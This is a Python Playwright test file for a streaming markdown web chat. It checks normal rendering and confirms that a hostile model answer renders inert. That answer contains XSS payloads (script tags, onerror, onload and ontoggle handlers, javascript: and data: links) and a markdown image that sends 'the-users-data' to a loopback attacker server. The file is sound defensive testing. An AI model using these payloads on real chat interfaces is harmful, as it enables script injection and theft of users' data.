"""The web chat renders markdown while it streams, and hostile answers stay inert.

The assertions are the browser's own observations: elements in the DOM, dialogs it
opened, requests it made, script it ran.
"""

from __future__ import annotations

import contextlib
from collections.abc import AsyncIterator
from typing import Any

import pytest
from aiohttp import web

from examples.web_chat.app import create_app
from rxstream.mock import MockConfig, MockServer

from .conftest import ARTIFACTS, needs_chromium

pytest.importorskip("playwright.async_api", reason="pip install -e '.[web]'")
pytest.importorskip("nh3", reason="pip install -e '.[markdown]'")
pytestmark = needs_chromium

ANSWER = """## Streaming markdown

Each **finished** block is rendered *once*; the open block shows as text.

1. Install it
2. Run the demo
   - against the mock
   - no API key needed

```python
import rxstream as rs
print(rs.__version__)
```

| provider | format |
|:---------|-------:|
| OpenAI   | SSE    |
| Ollama   | NDJSON |

> Untrusted output is data, never code.

That's all.
"""


async def serve(app: web.Application) -> tuple[web.AppRunner, str]:
    runner = web.AppRunner(app, access_log=None)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    host, port = runner.addresses[0][:2]
    return runner, f"http://{host}:{port}"


@pytest.fixture
async def exfiltration() -> AsyncIterator[tuple[str, list[str]]]:
    """A loopback 'attacker' server that records every request reaching it."""
    hits: list[str] = []

    async def record(request: web.Request) -> web.Response:
        hits.append(str(request.rel_url))
        return web.Response(body=b"GIF89a", content_type="image/gif")

    app = web.Application()
    app.router.add_route("*", "/{tail:.*}", record)
    runner, url = await serve(app)
    try:
        yield url, hits
    finally:
        await runner.cleanup()


@contextlib.asynccontextmanager
async def open_chat(text: str) -> AsyncIterator[str]:
    async with MockServer(MockConfig(text=text, tokens_per_second=120)) as mock:
        runner, url = await serve(create_app(base_url=mock.base_url, refresh=0.05))
        try:
            yield url
        finally:
            await runner.cleanup()


@pytest.fixture
async def chat_url() -> AsyncIterator[str]:
    async with open_chat(ANSWER) as url:
        yield url


async def test_blocks_appear_as_elements_while_the_answer_streams(chat_url: str, page: Any) -> None:
    await page.goto(chat_url)
    await page.click("#send")
    # the heading is an element before the answer is done
    await page.wait_for_function(
        "document.querySelector('#blocks h2') !== null"
        " && document.getElementById('answer').dataset.state === 'streaming'"
    )
    await page.wait_for_function(
        "document.getElementById('answer').dataset.state === 'done'", timeout=30_000
    )
    assert await page.text_content("#blocks h2") == "Streaming markdown"
    assert await page.text_content("#blocks strong") == "finished"
    assert await page.eval_on_selector_all("#blocks ol > li", "items => items.length") == 2
    assert await page.eval_on_selector_all("#blocks ol ul > li", "items => items.length") == 2
    code = await page.query_selector("#blocks pre code.language-python")
    assert code is not None
    assert "import rxstream as rs" in (await code.text_content() or "")
    cells = await page.eval_on_selector_all("#blocks td", "cells => cells.map(c => c.textContent)")
    assert cells == ["OpenAI", "SSE", "Ollama", "NDJSON"]
    assert await page.get_attribute("#blocks td:nth-child(2)", "class") == "align-right"
    assert (
        await page.text_content("#blocks blockquote") == "\nUntrusted output is data, never code.\n"
    )
    assert await page.text_content("#tail") == ""  # everything finished is a block now
    assert "**" not in (await page.text_content("#blocks") or "")
    ARTIFACTS.mkdir(exist_ok=True)
    await page.screenshot(path=str(ARTIFACTS / "web_chat_markdown.png"), full_page=True)


def hostile_answer(attacker: str) -> str:
    return f"""# Totally normal answer

<script>window.__pwned = "script"; alert("script")</script>

<img src="{attacker}/img-onerror" onerror="window.__pwned = 'onerror'; alert('onerror')">

<iframe src="{attacker}/iframe"></iframe>

<style>body {{ display: none !important; }}</style>

<div style="position:fixed;inset:0;background:red" onmouseover="alert('hover')">overlay</div>

[click me](javascript:window.__pwned='link';alert('link'))
[data link](data:text/html,<script>alert('data')</script>)

![exfiltrate]({attacker}/exfil?secret=the-users-data)
![inline](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)

<svg onload="alert('svg')"></svg>
<a href="javascript:alert('raw')">raw link</a>

<details open ontoggle="alert('toggle')"><summary>x</summary></details>

Last paragraph.
"""


async def test_a_hostile_answer_renders_inert(
    exfiltration: tuple[str, list[str]], page: Any
) -> None:
    attacker, hits = exfiltration
    async with open_chat(hostile_answer(attacker)) as url:
        dialogs: list[str] = []
        requests: list[str] = []

        async def dismiss(dialog: Any) -> None:
            dialogs.append(dialog.message)
            await dialog.dismiss()

        page.on("dialog", dismiss)
        page.on("request", lambda request: requests.append(request.url))
        await page.goto(url)
        await page.click("#send")
        await page.wait_for_function(
            "document.getElementById('answer').dataset.state === 'done'", timeout=30_000
        )
        await page.wait_for_timeout(300)  # let any deferred load/error handler fire
        assert dialogs == []
        assert await page.evaluate("window.__pwned") is None
        assert not [r for r in requests if not r.startswith(url)], requests
        assert hits == []  # the attacker's server saw nothing
        # clicking whatever looks like a link, or hovering, must not run script either
        for link in await page.query_selector_all("#blocks a"):
            await link.click(modifiers=["Control"], force=True, timeout=2000)
        await page.mouse.move(200, 300)
        await page.wait_for_timeout(300)
        assert dialogs == []
        assert await page.evaluate("window.__pwned") is None
        assert hits == []
        assert await page.is_visible("#answer")  # no CSS from the answer applied
        found = await page.eval_on_selector_all(
            "#blocks *",
            """elements => elements.filter(e =>
                ['SCRIPT', 'IFRAME', 'IMG', 'STYLE', 'SVG', 'svg', 'DETAILS', 'OBJECT', 'EMBED']
                    .includes(e.tagName)
                || [...e.attributes].some(a => a.name.startsWith('on') || a.name === 'style')
                || (e.getAttribute('href') || '').match(/^\\s*(javascript|data):/i)
            ).map(e => e.outerHTML)""",
        )
        assert found == []
        shown = await page.text_content("#blocks") or ""
        assert "<script>" in shown  # the markup is shown as text, not lost
        assert "[exfiltrate]" in shown  # the image as its alt text
        assert "Last paragraph." in shown
        ARTIFACTS.mkdir(exist_ok=True)
        await page.screenshot(path=str(ARTIFACTS / "web_chat_hostile.png"), full_page=True)
